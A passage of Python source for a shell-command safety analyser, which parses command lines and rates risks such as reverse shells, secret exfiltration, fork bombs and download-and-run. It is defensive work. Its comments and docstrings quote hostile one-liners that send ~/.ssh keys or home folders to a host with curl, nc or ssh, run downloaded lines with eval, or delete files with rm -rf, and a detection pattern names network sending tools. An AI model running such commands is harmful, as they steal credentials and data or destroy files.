"""Walks a parsed command and runs the rules on every simple command wherever it stands.

Pipelines, lists, subshells, compound commands, functions, `$(...)`, backticks and `<(...)` are
all reached by one iterative walk (nesting can be thousands deep). Shell code in strings
(`bash -c`, `eval`, `su -c`, ...) is parsed again, with a depth and count limit.
"""

from __future__ import annotations

import re
from dataclasses import replace

from tree_sitter import Node

from tui.core.safety import as_root, descriptors, effects, installed, paths, resolve
from tui.core.safety.context import MAX_DEPTH, MAX_REPARSES, Context
from tui.core.safety.feeds import (
    fed_text,
    find_output,
    line_value,
    literal_output,
    stdin_for,
    trusted_setup,
)
from tui.core.safety.flow import secret_path
from tui.core.safety.installed import picks_some, remember_listing
from tui.core.safety.lazy import lazy_pattern
from tui.core.safety.model import RiskLevel
from tui.core.safety.nodes import (
    INTERACTIVE_EDITORS,
    bare,
    disables_history,
    for_variable,
    loop_flow,
    pattern_forms,
    prefix_assignments,
    program_variables,
    quietly_resolved,
    read_source,
    read_text,
    read_variable,
    self_calls,
    stage_command_node,
    stage_commands,
)
from tui.core.safety.parse import (
    Command,
    Redirect,
    Stdin,
    assignment,
    build_command,
    parse,
    statement_redirects,
    syntax_errors,
)
from tui.core.safety.redirects import REVERSE, check_redirects, socket_kinds
from tui.core.safety.rules import (
    check_layer,
    env_code,
    exported_checks,
    git_losses,
    git_programs,
    listed,
    startup,
    strangers,
)
from tui.core.safety.rules import windows as windows_rules
from tui.core.safety.rules.code import executing_kinds
from tui.core.safety.rules.cores import background_burners
from tui.core.safety.rules.embedded import subscript_code
from tui.core.safety.rules.hogs import endless_sources
from tui.core.safety.rules.network import (
    command_kinds,
    packs_found_keys,
    passes_on,
    reads_secret_in,
)
from tui.core.safety.rules.resources import (
    busy_cores,
    captured_endless,
    endless_loop,
    endless_output,
    many_files,
)
from tui.core.safety.unwrap import SHELLS, expand
from tui.core.safety.windows import looks_like_windows, uncaret
from tui.core.safety.words import SUBSTITUTED, Word, evaluate, literal, node_text
from tui.core.safety.written import record_writes

MAX_KIND_NODES = 20_000  # node visits to classify substitutions, per assessment
MAX_CALLS = 16  # function bodies followed into, per assessment
SENDING_CALLS = lazy_pattern(r"\b(curl|wget|nc|ncat|scp|rsync|mail|mutt|dig|nslookup|http)\b")
GATHERED_REASONS = {
    "recon": "sends facts about this machine (users, network, system) to another machine",
    "personal": "packs a folder of your home and sends it to another machine",
    "image": "sends a container image (its code and any secrets built in) to another machine",
    "database": "sends a database's contents to another machine",
    "clipboard": "sends what is on the clipboard (often a password) to another machine",
    "capture": "sends this machine's network traffic (it may hold passwords) to another machine",
    "disk": "sends a whole disk's contents to another machine",
    "settings": "sends a container's settings (its environment often holds passwords) away",
    "decrypted": "decrypts secrets and sends the plain text to another machine",
    "search": "searches files for passwords or keys and sends what it finds away",
}
# Stages that carry their input to another machine.
_TAKERS = frozenset({"upload", "network", "send"})
_UPLOADS = frozenset({"upload", "network"})
# ssh and mail are how people move their own images, not their recon or files.
GATHERED_TAKERS = {"image": _TAKERS, "disk": _TAKERS}
# A database's rows (customers, users, their passwords) leaving this network are critical
# whichever program carries them, ssh included; to a machine of this network they stay high.
LEAVING_IS_CRITICAL = frozenset({"database"})
HISTORY_VARIABLES = frozenset({"HISTFILE", "HISTSIZE", "HISTFILESIZE"})


def _before(found: list[int], takers: list[int]) -> bool:
    """Whether some stage in `takers` comes after a stage in `found` (the data reaches it)."""
    return bool(found) and bool(takers) and min(found) < max(takers)


def runs_variable(text: str, variable: str) -> bool:
    """`eval "$l"`, `sh -c "$l"`, or `$l` as a command: the variable's text is run."""
    name = re.escape(variable)
    used = rf'"?\$\{{?{name}\}}?"?'
    return bool(
        re.search(rf"\beval\s+{used}|\b(?:ba|z|da|k)?sh\s+-c\s+{used}", text)
        or re.search(rf"(?:^|[;&|]|\bdo|\bthen)\s*{used}(?:\s|;|$)", text)
    )


def _file_read_in(node: Node) -> set[str]:
    """What `$(< FILE)` yields: a secret's contents, or a file's."""
    for child in node.children:
        target = child.child_by_field_name("destination") if child.type == "file_redirect" else None
        if target is not None:
            return {"secret"} if secret_path(evaluate(target).value) else {"file"}
    return set()


def _last_command(body: Node | None) -> Node | None:
    """The command a list's trailing redirections belong to (`a && b > f`: b), if simple."""
    node = body
    while node is not None and node.type == "list":
        named = [child for child in node.children if child.is_named]
        node = named[-1] if named else None
    if node is None or body is None or body.type != "list" or node.type != "command":
        return None
    return node


def _loop_over_secrets(node: Node) -> str | None:
    """`for f in ~/.ssh/*; do curl -F "k=@$f" URL; done`: each secret file sent in turn."""
    values = [c for i, c in enumerate(node.children) if node.field_name_for_child(i) == "value"]
    body = node.child_by_field_name("body")
    if body is None or not SENDING_CALLS.search(node_text(body)):
        return None
    for value in values:
        what = secret_path(evaluate(value).value)
        if what:
            return f"sends {what} to another machine, one file at a time"
    return None


class Analyser:
    """Runs the rules over one command line, collecting findings into a Context."""

    def __init__(self, ctx: Context) -> None:
        self.ctx = ctx
        self._kinds: dict[tuple[int, ...], frozenset[str]] = {}
        self._heredoc_owners: dict[int, list[Node]] = {}
        self._kind_budget = MAX_KIND_NODES
        self._bodies: dict[str, Node] = {}
        self._calling: set[str] = set()
        self._list_redirects: dict[int, tuple[Redirect, ...]] = {}
        self._pipe_redirects: dict[int, tuple[Redirect, ...]] = {}
        self._calls = 0
        ctx.run_code = self.run_code
        ctx.kinds_of = self.kinds_of
        ctx.fed_text = fed_text

    def analyse(self, source: str) -> None:
        tree = parse(source)
        errors = syntax_errors(tree.root_node)
        spelt = resolve.brace_commands(source)
        if errors and spelt is not None and not syntax_errors(parse(spelt).root_node):
            errors = []  # `{echo,hi}`: bash expands the braces, tree-sitter sees a broken group
        if self.ctx.depth == 0:
            self.ctx.errors.extend(errors)
        self._collect_functions(tree.root_node)
        self.walk(tree.root_node)
        burning = background_burners(source)
        if burning is not None:
            self.ctx.add(burning[0], burning[1], source[:200])
        hidden = resolve.brace_hidden(spelt)
        if hidden is not None:
            self.ctx.add(RiskLevel.HIGH, hidden, source[:200])
        if spelt is not None and self.ctx.depth < MAX_DEPTH:
            self.ctx.depth += 1
            try:
                self.analyse(spelt)
            finally:
                self.ctx.depth -= 1

    def walk(self, root: Node) -> None:
        """Visits every node once, in source order, knowing each node's parent."""
        stdin: dict[int, Stdin] = {}
        stack: list[tuple[Node, Node | None]] = [(root, None)]
        while stack:
            node, parent = stack.pop()
            kind = node.type
            if kind == "command":
                self.command(node, parent, stdin.get(node.id))
            elif kind == "pipeline":
                self.pipeline(node, parent, stdin)
            elif kind == "function_definition":
                self.function(node)
            elif kind in ("declaration_command", "unset_command") or (
                kind == "variable_assignment" and bare(parent)
            ):
                self.declaration(node)
            elif kind == "redirected_statement":
                self.statement(node)
            if kind in ("test_command", "declaration_command", "unset_command"):
                self._subscripts(node)
            if kind == "for_statement":
                self._loop_flow(node)
                looped = for_variable(node) or self._over_arguments(node)
                if looped is not None:
                    self.ctx.variables[looped[0]] = looped[1]
                self._loop_taint(node)
                listed.remember_loop(node, self.ctx)
                installed.remember_loop(node, self.ctx)
            if kind == "command_substitution":
                self._captured(node)
            if kind in ("while_statement", "for_statement", "c_style_for_statement"):
                text = node_text(node)
                found = endless_loop(text) or busy_cores(text) or many_files(text)
                if found is None and parent is not None and parent.type == "redirected_statement":
                    found = endless_output(text, statement_redirects(parent))
                found = found or git_losses.looped_drops(text)
                if found is not None:
                    self.ctx.add(found[0], found[1], text[:200])
            stack.extend((child, node) for child in reversed(node.children))

    def _captured(self, node: Node) -> None:
        """`$(yes)`, `$(< /dev/zero)`: a substitution whose output has no end."""
        inner = [child for child in node.children if child.is_named]
        if len(inner) != 1:
            return
        body = inner[0]
        if body.type == "file_redirect":
            target = body.child_by_field_name("destination")
            reason = captured_endless([], evaluate(target).value if target else None)
        else:
            stages = [c for c in body.children if c.is_named] if body.type == "pipeline" else [body]
            commands = [c for stage in stages for c in stage_commands(stage, body)]
            reason = captured_endless(commands)
        if reason is not None:
            self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])

    def _over_arguments(self, node: Node) -> tuple[str, str] | None:
        """`for f; do ...`: the loop runs over "$@", the arguments `sh -c CODE NAME ARG...` got."""
        name = node.child_by_field_name("variable")
        listed = any(node.field_name_for_child(i) == "value" for i in range(node.child_count))
        items = self.ctx.variables.get("@", "").split()
        if name is None or listed or not items or len(items) > 16:
            return None
        return node_text(name), items[0] if len(items) == 1 else "{" + ",".join(items) + "}"

    # -- simple commands ------------------------------------------------------------------------

    def command(self, node: Node, parent: Node | None, stdin: Stdin | None) -> None:
        command = self._resolved(build_command(node, parent, stdin))
        if stdin is None:
            command = _fed_by_substitution(command)
        if self.ctx.found_files:
            command = _on_found_tree(command, self.ctx.found_files, self.ctx.variables)
        self._take_defaults(command)
        if node.id in self._list_redirects:
            extra = self._list_redirects.pop(node.id)
            command = replace(command, redirects=(*command.redirects, *extra))
        self.redirects(command)
        if node.id in self._pipe_redirects:
            # checked above as the pipeline's own (`statement`); the rules see them as bash
            # does, on the last stage (`find / | xargs cat > f`: xargs writes f)
            extra = self._pipe_redirects.pop(node.id)
            command = replace(command, redirects=(*command.redirects, *extra))
        self._program_variables(node, command)
        startup.prefixed(command, self.ctx, prefix_assignments(node))
        env_code.prefixed(command, self.ctx, prefix_assignments(node))
        if self.ctx.planted_path is not None:
            startup.looked_up(command, self.ctx, self.ctx.planted_path)
        if command.name in self._bodies:
            self._call(command)
        elif command.name in self.ctx.aliases and command.words[0].raw == command.name:
            alias = self.ctx.aliases.pop(command.name)  # an alias is not expanded in itself
            rest = " ".join(word.raw for word in command.args)
            self.run_code(literal(f"{alias} {rest}".strip()), command)
            self.ctx.aliases[command.name] = alias
            return  # the alias's own words were rated: the name alone is no program
        layers, code = expand(command)
        start = len(self.ctx.findings)
        outer, outer_cwd, moved_in = self.ctx.subjects, self.ctx.cwd, False
        self.ctx.subjects = pattern_forms(layers)
        if self.ctx.subjects:
            self.ctx.simple_commands.append(self.ctx.subjects)
        try:
            for layer in layers:
                if layer.words and not layer.words[0].dynamic:
                    self.ctx.programs.append(layer.words[0].value)
                before = len(self.ctx.findings)
                check_layer(layer, self.ctx)
                as_root.unreviewed(layers, layer, self.ctx, before)
                moved = wrapper_directory(layer)
                if moved is not None:  # `env -C / rm -rf *`: what env runs works in /
                    self.ctx.cwd, moved_in = paths.normalise(self.ctx.resolve(moved)), True
                record_writes(layer, self.ctx)
                remember_listing(layer, self.ctx)
                found = self.ctx.findings[before:]
                effect = effects.effect_of(layer, rated=bool(found))
                if effect is None and found:
                    effect = effects.effect_from_findings(
                        layer.name, [f.reason for f in found if f.level >= RiskLevel.MODERATE]
                    )
                if effect is not None:
                    self.ctx.effects.append(effect)
            for by, word in code:
                saved, saved_files = dict(self.ctx.variables), self.ctx.found_files
                positional = _positional(by, word)
                self.ctx.variables.update(positional)
                if by.implied_recursive:
                    self.ctx.found_files = saved_files | _each_file_operands(positional)
                try:
                    self.run_code(word, by)
                finally:
                    self.ctx.variables, self.ctx.found_files = saved, saved_files
            as_root.shell_escape(layers, self.ctx, start)
        finally:
            self.ctx.subjects = outer
            if moved_in:  # the shell itself stays where it was
                self.ctx.cwd = outer_cwd

    def _take_defaults(self, command: Command) -> None:
        """`: ${X:=rm -rf ~}`: a variable still unset takes the text, for the rest of the line."""
        for word in command.words:
            for name, value in word.defaults:
                self.ctx.variables.setdefault(name, value)

    def _program_variables(self, node: Node, command: Command) -> None:
        """`PAGER='sh -c ...' git log`, `LESSOPEN='|cmd %s' less f`: the program runs that code."""
        for name, code in program_variables(node):
            if command.name == "crontab" and code.split()[0] not in INTERACTIVE_EDITORS:
                self.ctx.add(RiskLevel.HIGH, "edits the crontab with a script", command)
            if command.words and (" " in code or "/" in code) and not _plain_pager(code):
                reason = f"{command.name} runs the program set in {name}"
                self.ctx.add(RiskLevel.MODERATE, reason, command)
                git_programs.program_variable(name, code, command, self.ctx)
                self.run_code(literal(code), command)

    def _resolved(self, command: Command) -> Command:
        """`a=rm; $a -rf ~` is `rm -rf ~`; names that stay unknown are left for the rules."""
        if not command.words:
            return command
        if command.words[0].value in _THE_SHELL_ITSELF:  # `/proc/self/exe -c CODE`
            reason = f"runs the shell under another name ({command.words[0].value})"
            self.ctx.add(RiskLevel.HIGH, reason, command)
            command = replace(command, words=(literal("sh"), *command.args))
        command = _found_operands(command)
        args_dynamic = any(
            "${IFS}" in w.value
            or w.value in ("${@}", "${*}")
            or resolve.array_all(w.raw) in self.ctx.variables
            for w in command.args
        )
        if not resolve.needs_resolving(command.words[0]) and not args_dynamic:
            return command
        texts = [literal_output(node) for node in command.words[0].substitutions]
        resolved = resolve.resolve(command, self.ctx.variables, texts)
        if resolved is None:
            return command
        hidden = resolve.hides(command.words[0], resolved)
        if hidden is not None:
            self.ctx.add(RiskLevel.HIGH, hidden, resolved)
        # Decoded or not, a program name that arrives encoded is code that hides (`$(echo
        # ZWNobw== | base64 -d) hi`): the decoded name is rated too, never instead.
        if "encoded" in self.ctx.word_kinds(command.words[0]):
            executing_kinds(self.ctx, frozenset({"decode"}), resolved, "as the command name")
        return resolved

    def _call(self, command: Command) -> None:
        """A call of a function defined in the same line: its body, with the call's arguments."""
        name = command.name
        if name in self._calling or self._calls >= MAX_CALLS:
            return
        self._calls += 1
        saved = dict(self.ctx.variables)
        values = [word.value for word in command.args]
        for index in range(1, 10):
            self.ctx.variables[str(index)] = values[index - 1] if index <= len(values) else ""
        self.ctx.variables["@"] = " ".join(values)
        self._calling.add(name)
        try:
            self.walk(self._bodies[name])
        finally:
            self._calling.discard(name)
            self.ctx.variables = saved

    def statement(self, node: Node) -> None:
        body = node.child_by_field_name("body")
        if body is not None and body.type == "command":
            return  # the command picks up these redirections itself
        if body is not None and body.type == "while_statement":
            self._read_loop_flow(node, body)
            self._read_loop_source(node, body)
            self._read_loop_runs(node, body)
        owner = _last_command(body)
        if owner is not None:
            # `cd /tmp && nc host 9 < f`: tree-sitter hangs `< f` on the list; bash gives it
            # to the last command
            self._list_redirects[owner.id] = tuple(statement_redirects(node))
            return
        reads: tuple[str, ...] = ()
        names: tuple[str, ...] = ()  # the stages' programs, last one included
        last: frozenset[str] = frozenset()  # what the last stage makes (decoded text, ...)
        if body is not None and body.type == "pipeline":
            stages = [child for child in body.children if child.is_named]
            commands = [c for stage in stages for c in stage_commands(stage, body)]
            if stages and stages[-1].type == "command":
                self._pipe_redirects[stages[-1].id] = tuple(statement_redirects(node))
            reads = tuple(w.value for c in commands for w in c.args if not w.value.startswith("-"))
            names = tuple(c.name for c in commands)[-8:]
            last = frozenset(command_kinds(expand(commands[-1])[0][-1]) if commands else ())
        pseudo = Command(
            words=(),
            text=node_text(node),
            redirects=tuple(statement_redirects(node)),
            stdin=Stdin(kinds=frozenset(last), reads=reads[:64], producers=names),
        )
        self.redirects(pseudo)

    def redirects(self, command: Command) -> None:
        descriptors.remember(self.ctx, command)
        check_redirects(self.ctx, command)

    # -- pipelines --------------------------------------------------------------------------------

    def pipeline(self, node: Node, parent: Node | None, stdin: dict[int, Stdin]) -> None:
        stages = [(child, node) for child in node.children if child.is_named]
        if parent is not None and parent.type == "heredoc_redirect":
            # `cat <<EOF | sh`: tree-sitter puts the rest of the pipeline inside the heredoc
            self._heredoc_producer(parent, stages)
        kinds_so_far: set[str] = set()
        producers: list[str] = []
        all_kinds: list[set[str]] = []
        previous: list[Command] = []
        chain: list[Command] = []  # every stage so far, one command each (else empty)
        reads: list[str] = []
        first: list[Command] = []
        picked = False  # a stage after the first kept only some lines (`grep x`, `head`)
        for stage, stage_parent in stages:
            variable = read_variable(stage)
            if variable is not None and previous:  # `ls | while read f; do rm -rf "$f"`
                listed.remember_read(variable, first, self.ctx)
                installed.remember_read(variable, first, picked, self.ctx)
                self.ctx.variables[variable] = line_value(previous)
                fetched = kinds_so_far & _EXECUTING  # `curl URL | while read l; do eval "$l"`
                if fetched:
                    self.ctx.tainted[variable] = frozenset(fetched)
            commands = stage_commands(stage, stage_parent)
            first = first or commands
            command_node = stage_command_node(stage)
            if command_node is not None and kinds_so_far:
                stdin[command_node.id] = stdin_for(
                    kinds_so_far, producers, previous, reads, first, picked, chain
                )
            stage_kinds: set[str] = set()
            for command in commands:
                layers, code = expand(quietly_resolved(command, self.ctx.variables))
                for layer in layers[-1:]:
                    stage_kinds |= command_kinds(layer) | socket_kinds(layer, self.ctx)
                    if self.ctx.cwd is not None and reads_secret_in(layer, self.ctx.resolve):
                        stage_kinds.add("secret")  # `cd ~/.ssh && tar cz . | nc host 9`
                    if packs_found_keys(layer):
                        stage_kinds.add("secret")  # `tar cz $(find ~ -name '*.pem') | nc`
                    if passes_on(layer):  # `cat <(curl URL) | sh`: cat prints the download
                        fed = [self.ctx.word_kinds(w) for w in layer.args if w.substitutions]
                        stage_kinds |= set().union(*fed) & _PASSED_ON
                    if stage_kinds & _TAKERS and strangers.stays_local(layer):
                        stage_kinds.add("local")
                    if layer.name in ("echo", "printf"):  # `echo "$(curl URL)" | crontab -`
                        stage_kinds |= self._printed_download(layer)
                stage_kinds |= _remote_kinds(code)
                inner = layers[-1].name if layers else command.name  # `sudo crontab -l`: crontab
                producers.append(inner or command.name or "…")
            kinds_so_far |= stage_kinds
            all_kinds.append(stage_kinds)
            current = [expand(c)[0][-1] for c in commands]
            chain = [*chain, *current] if len(current) == 1 and (chain or not previous) else []
            if previous:
                picked = picked or any(picks_some([c.name, *c.argv]) for c in current)
            passing = current and all(
                c.name == "tee" or (c.name == "cat" and not c.args) for c in current
            )
            previous = [*previous, *current] if passing else current  # `echo X | tee f | sh`
            reads.extend(w.value for c in previous for w in c.args if not w.value.startswith("-"))
            reads.extend(endless_sources(previous))  # `</dev/zero tr '\0' x | grep y`
        self._pipeline_rules(node, all_kinds)

    def _printed_download(self, command: Command) -> frozenset[str]:
        """What echo prints of a substitution that downloads is the download itself."""
        kinds = frozenset().union(*(self.ctx.word_kinds(w) for w in command.args))
        return kinds & {"download"}

    def _heredoc_producer(self, heredoc: Node, stages: list[tuple[Node, Node]]) -> None:
        """Finds the command that owns `heredoc` (searching down: no parent look-ups)."""
        for statement in self._heredoc_owners.get(heredoc.id, ()):
            body = statement.child_by_field_name("body")
            if body is not None:
                stages.insert(0, (body, statement))

    def _pipeline_rules(self, node: Node, all_kinds: list[set[str]]) -> None:
        shells = [i for i, kinds in enumerate(all_kinds) if "shell" in kinds]
        network = [i for i, kinds in enumerate(all_kinds) if "network" in kinds]
        if shells and network and set(shells) != set(network):
            self.ctx.add(RiskLevel.CRITICAL, REVERSE, node_text(node))
        secrets = [i for i, kinds in enumerate(all_kinds) if "secret" in kinds]
        senders = [i for i, k in enumerate(all_kinds) if k & {"network", "download", "send"}]
        if secrets and senders and min(secrets) < max(senders):
            self.ctx.add(
                RiskLevel.CRITICAL,
                "sends secrets or personal data (keys, passwords, the home folder) to another "
                "machine",
                node_text(node),
            )
        values = [i for i, kinds in enumerate(all_kinds) if "secret_value" in kinds]
        takers = [i for i, kinds in enumerate(all_kinds) if kinds & {"network", "upload"}]
        if values and takers and min(values) < max(takers):
            reason = "sends a secret from your environment (a token or password) to a server"
            self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node))
        self._gathered_flow(node, all_kinds)

    def _gathered_flow(self, node: Node, all_kinds: list[set[str]]) -> None:
        """`{ uname -a; id; } | curl --data-binary @-`, `zip -r - ~/Documents | curl -T -`."""
        off_network = [i for i, k in enumerate(all_kinds) if k & _TAKERS and "local" not in k]
        for kind, reason in GATHERED_REASONS.items():
            found = [i for i, kinds in enumerate(all_kinds) if kind in kinds]
            wanted = GATHERED_TAKERS.get(kind, _UPLOADS)
            bare = strangers.bare_in(node_text(node)) if kind == "personal" else None
            if bare is not None:  # `tar czf - ~/Documents | ssh u@203.0.113.7 ...`: any carrier
                wanted = _TAKERS
            takers = [i for i, kinds in enumerate(all_kinds) if kinds & wanted]
            far = kind in LEAVING_IS_CRITICAL and _before(found, off_network)
            if not (far or _before(found, takers)):
                continue
            where = strangers.stranger(node_text(node)) if kind != "recon" else None
            if where is not None:  # home folders or a database handed to nobody's server
                reason = f"{reason.replace(' to another machine', '')}: to {where}"
            elif far:
                reason = f"{reason} outside this network"
            level = RiskLevel.CRITICAL if far or where is not None else RiskLevel.HIGH
            self.ctx.add(level, reason, node_text(node))

    def _loop_taint(self, node: Node) -> None:
        """`for c in $(curl URL); do $c; done`: each word the loop takes was downloaded."""
        name = node.child_by_field_name("variable")
        values = [
            node.child(i)
            for i in range(node.child_count)
            if node.field_name_for_child(i) == "value"
        ]
        kinds: set[str] = set()
        for value in values:
            if value is not None:
                kinds |= self.ctx.word_kinds(evaluate(value)) & _EXECUTING
        if name is not None and kinds:
            self.ctx.tainted[node_text(name)] = frozenset(kinds)

    def _read_loop_flow(self, node: Node, body: Node) -> None:
        """`while read l; do curl -d "$l" URL; done < ~/.bash_history`: each line sent away."""
        if not SENDING_CALLS.search(node_text(body)):
            return
        for redirect in statement_redirects(node):
            what = (
                secret_path(redirect.target.value)
                if redirect.op == "<" and redirect.target
                else None
            )
            if what:
                reason = f"sends {what} to another machine, one line at a time"
                self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])
                return

    def _read_loop_runs(self, node: Node, body: Node) -> None:
        """`while read l; do eval "$l"; done < <(curl URL)`: each downloaded line is run (as
        for `curl URL | while read l; do eval "$l"; done`)."""
        variable = read_variable(body)
        if variable is None or not runs_variable(node_text(body), variable):
            return
        fed = [
            grand
            for child in node.children
            if child.type == "file_redirect"
            for grand in child.children
            if grand.type == "process_substitution"
        ]
        if fed and self.kinds_of(tuple(fed)) & {"download", "remote"}:
            reason = "downloads commands from the internet and runs each line"
            self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])

    def _read_loop_source(self, node: Node, body: Node) -> None:
        """`while read -r f; do rm -rf "$f"; done < <(ls -d ~/*)`: each line the command in
        the process substitution prints (as for `ls -d ~/* | while read -r f`)."""
        variable = read_variable(body)
        source = read_source(node) if variable is not None else None
        if variable is not None and source is not None:
            self.ctx.variables[variable] = line_value([source])
        text = read_text(node) if variable is not None and source is None else None
        if variable is not None and text is not None:  # `done <<< 'TEXT'`: the line is TEXT
            self.ctx.variables[variable] = text

    def _loop_flow(self, node: Node) -> None:
        reason = loop_flow(node, self.kinds_of) or _loop_over_secrets(node)
        if reason is not None:
            self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])

    # -- functions, variables ---------------------------------------------------------------------

    def _collect_functions(self, root: Node) -> None:
        """Function names, and which statement owns each here-document."""
        stack = [root]
        while stack:
            node = stack.pop()
            if node.type == "function_definition":
                name = node.child_by_field_name("name")
                body = node.child_by_field_name("body")
                if name is not None:
                    self.ctx.functions.add(node_text(name))
                    if body is not None:
                        self._bodies[node_text(name)] = body
            elif node.type == "redirected_statement":
                for child in node.children:
                    if child.type == "heredoc_redirect":
                        self._heredoc_owners.setdefault(child.id, []).append(node)
            stack.extend(node.children)

    def function(self, node: Node) -> None:
        name_node = node.child_by_field_name("name")
        body = node.child_by_field_name("body")
        if name_node is None or body is None:
            return
        name = node_text(name_node)
        calls, spawning = self_calls(body, name)
        if calls >= 2 and spawning:
            reason = f"defines a fork bomb: `{name}` starts copies of itself without end"
            self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node))

    def declaration(self, node: Node) -> None:
        text = node_text(node)
        if node.type == "unset_command":
            names = {node_text(c) for c in node.children if c.type == "variable_name"}
            names |= {c.value for c in (evaluate(ch) for ch in node.children if ch.type == "word")}
            if names & HISTORY_VARIABLES:
                self.ctx.add(RiskLevel.HIGH, "turns off the shell history (unset HISTFILE)", text)
            return
        items = [node] if node.type == "variable_assignment" else node.children
        nameref = _declares_nameref(node)
        for item in items:
            if item.type != "variable_assignment":
                continue
            name, value = assignment(item)
            if nameref:  # `declare -n r=cmd`: `$r` is whatever `cmd` holds when it is read
                self.ctx.variables.pop(name, None)
                self.ctx.variables[resolve.NAMEREF + name] = value.value
                continue
            self._assign(name, value)
            self._array_items(name, item)
            if node.type == "declaration_command" and node_text(node).startswith("export"):
                exported_checks.exported(name, value.value, text, self.ctx)
            if name == "PROMPT_COMMAND" and value.value.strip():
                reason = "sets code the shell runs before every prompt (PROMPT_COMMAND)"
                pseudo = Command(words=(), text=text)
                self.ctx.add(RiskLevel.MODERATE, reason, pseudo)
                self.run_code(value, pseudo)
            lead = startup.planted_lead(value, self.ctx) if name == "PATH" else None
            if lead is not None and value.value.strip():
                self.ctx.planted_path = lead
                reason = f"puts {lead} first in PATH: programs planted there run instead"
                self.ctx.add(RiskLevel.MODERATE, reason, text)
            if name == "PATH" and "PATH" not in value.raw and value.raw:
                reason = "replaces PATH: most commands can no longer be found in this shell"
                self.ctx.add(RiskLevel.MODERATE, reason, text)
                self.ctx.effects.append(reason.removesuffix(" in this shell"))
            if name in PROMPT_HOOKS and value.value.strip():
                self._prompt_hook(name, value, text)
            for code in startup.prompt_code(name, value):  # `PS1='$(CMD)'`: CMD at each prompt
                self.run_code(literal(code), Command(words=(), text=text))
            if name in startup.LIBRARY_VARIABLES and value.value.strip():
                startup.preloaded(name, value, self.ctx, text)
            if name in HISTORY_VARIABLES and disables_history(name, value):
                self.ctx.add(RiskLevel.HIGH, f"turns off the shell history ({name})", text)

    def _prompt_hook(self, name: str, value: Word, text: str) -> None:
        """`PROMPT_COMMAND='CODE'`: the shell runs CODE before every prompt from now on."""
        before = len(self.ctx.findings)
        self.run_code(value, Command(words=(), text=text))
        found = self.ctx.findings[before:]
        reaches_out = any(word in f.reason for f in found for word in _REACHING_OUT)
        serious = reaches_out or any(f.level >= RiskLevel.HIGH for f in found)
        level = RiskLevel.HIGH if serious else RiskLevel.MODERATE
        shown = value.value.strip()[:60]
        self.ctx.add(level, f"makes the shell run {shown} before every prompt ({name})", text)

    def _assign(self, name: str, value: Word) -> None:
        """Remembers what a variable holds: a known value, or code that was fetched or decoded."""
        self.ctx.tainted.pop(name, None)
        if not value.dynamic:
            self.ctx.variables[name] = value.path
            for code in subscript_code(value.value):  # `x='a[$(cmd)]'; [[ $x -eq 0 ]]` runs cmd
                pseudo = Command(words=(), text=value.raw)
                self.ctx.add(RiskLevel.HIGH, "runs code hidden in an array subscript", pseudo)
                self.run_code(literal(code), pseudo)
            return
        self.ctx.variables.pop(name, None)
        kinds = self.ctx.word_kinds(value)
        if kinds & {"download", "decode", "network", "secret"}:
            self.ctx.tainted[name] = kinds
        if len(value.substitutions) == 1 and value.value == SUBSTITUTED:
            text = literal_output(value.substitutions[0])
            if text is not None:
                self.ctx.variables[name] = text

    def _array_items(self, name: str, node: Node) -> None:
        """`a=(r m)`: each item is remembered as `a[0]`, `a[1]`, ... for `${a[1]}`."""
        value = node.child_by_field_name("value")
        if value is None or value.type != "array":
            return
        items = [evaluate(child) for child in value.children if child.is_named]
        for index, item in enumerate(items[:64]):
            keyed = re.fullmatch(r"\[(\w+)\]=(.*)", item.value, re.DOTALL)  # `m=([k]=v)`
            key = keyed.group(1) if keyed else str(index)
            if item.dynamic:
                self.ctx.variables.pop(f"{name}[{key}]", None)
            else:
                self.ctx.variables[f"{name}[{key}]"] = keyed.group(2) if keyed else item.value

    def _subscripts(self, node: Node) -> None:
        text = node_text(node)
        for code in subscript_code(text):
            pseudo = Command(words=(), text=text)
            self.ctx.add(RiskLevel.HIGH, "runs code hidden in an array subscript", pseudo)
            self.run_code(literal(code), pseudo)

    # -- code in strings and substitutions ------------------------------------------------------

    def run_code(self, word: Word, by: Command) -> None:
        ctx = self.ctx
        kinds = ctx.word_kinds(word)
        if executing_kinds(ctx, kinds, by, f"{by.name} with code from $(...)"):
            return
        if word.substitutions and all(trusted_setup(node) for node in word.substitutions):
            ctx.add(RiskLevel.MODERATE, f"sets up the shell with the output of {word.raw[:60]}", by)
            return
        if word.dynamic and not _known_code(word, ctx.variables):
            ctx.add(RiskLevel.MODERATE, f"runs shell code built at run time ({word.raw[:60]})", by)
        if ctx.depth >= MAX_DEPTH or ctx.reparses >= MAX_REPARSES:
            reason = f"shell code nested too deeply to check all of it: {resolve.UNRESOLVED}"
            ctx.add(RiskLevel.HIGH, reason, by)
            return
        ctx.reparses += 1
        ctx.depth += 1
        try:
            for reading in _readings(word):
                text = _filled(reading)
                text = _expanded(text, ctx.variables, reading.raw) if reading.dynamic else text
                self.analyse_carried(text.replace(SUBSTITUTED, "${subst}"))
        finally:
            ctx.depth -= 1

    def analyse_carried(self, text: str) -> None:
        """Code another program runs (`bash -c CODE`, `wsl CODE`); Windows code in it
        (`bash -c "netsh advfirewall ..."`) is rated by the Windows rules, and its POSIX
        reading keeps only what it finds at HIGH or above, as for a whole Windows line."""
        plain = uncaret(text)
        if not (plain.strip() and looks_like_windows(plain)):
            self.analyse(text)
            return
        windows_rules.analyse(plain, self.ctx)
        before = len(self.ctx.findings)
        self.analyse(text)
        self.ctx.findings[before:] = [
            f
            for f in self.ctx.findings[before:]
            if f.level >= RiskLevel.HIGH and resolve.UNRESOLVED not in f.reason
        ]

    def kinds_of(self, nodes: tuple[Node, ...]) -> frozenset[str]:
        """What the commands inside substitutions produce (download, decode, ...).

        Results are cached per node, and all calls of one assessment share a budget of node
        visits, so deeply nested substitutions cost linear time; past the budget the answer
        is `other` (unknown output).
        """
        key = tuple(node.id for node in nodes)
        if key in self._kinds:
            return self._kinds[key]
        kinds: set[str] = set()
        stack: list[tuple[Node, Node | None]] = [(node, None) for node in nodes]
        while stack:
            if self._kind_budget <= 0:
                kinds.add("other")
                break
            node, parent = stack.pop()
            self._kind_budget -= 1
            if node.type == "command":
                layers, _ = expand(build_command(node, parent))
                for layer in layers[-1:]:
                    kinds |= command_kinds(layer)
            elif node.type == "command_substitution":
